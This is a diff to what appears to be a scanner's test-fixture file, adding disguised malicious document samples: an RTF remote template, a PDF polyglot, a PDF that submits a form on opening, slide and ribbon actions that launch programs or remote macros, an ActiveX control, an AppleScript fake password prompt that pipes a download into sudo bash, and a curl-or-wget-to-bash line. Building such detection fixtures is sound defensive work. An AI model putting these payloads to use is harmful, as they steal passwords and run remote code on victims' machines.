@@ -175,4 +175,31 @@ FILES: dict[str, Sample] = {
     "ransom_page": text(
         "README.html", "<html>Your files have been encrypted. Pay in bitcoin. <script>setInterval(f, 1)</script></html>"
     ),
+    # Documents in disguise
+    "rtf_remote_template_disguised": text(
+        "letter.rtf", r"{\rtf1\ansi {\*\template \u-65432?\u-65420?\u-65420?p://files.example/letter.dotm}Dear all}"
+    ),
+    "pdf_carries_web_archive": text(
+        "order.doc",
+        "%PDF-1.7\n%comment\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\n"
+        "Content-Location: file:///C:/order.htm\n\nOrder\n--b--\n",
+    ),
+    "pdf_sends_form_at_opening": pdf("/OpenAction << /S /SubmitForm /F (http://files.example/take.php) /Flags 4 >>"),
+    "slide_starts_program": text(
+        "ppt/slides/slide1.xml",
+        '<?xml version="1.0"?><p:sld><a:hlinkHover r:id="rId2" action="ppaction://program"/></p:sld>',
+    ),
+    "ribbon_runs_remote_macro": text(
+        "customUI/customUI.xml", '<?xml version="1.0"?><customUI onLoad="https://files.example/menu.dotm!start"/>'
+    ),
+    "control_that_runs_programs": text(
+        "word/activeX/activeX1.xml",
+        '<?xml version="1.0"?><ax:ocx ax:classid="{72C24DD5-D70A-438B-8A42-98424B88AFB8}" xmlns:ax="x"/>',
+    ),
+    "password_prompt_mac_used": text(
+        "update.applescript",
+        'set p to text returned of (display dialog "Password" default answer "" with hidden answer)\n'
+        f'do shell script "echo " & p & " | sudo -S true; curl -s {URL} | bash"\n',
+    ),
+    "fetched_either_way_and_run": shell(f"(curl -fsSL {URL} || wget -qO- {URL}) | bash\n"),
 }
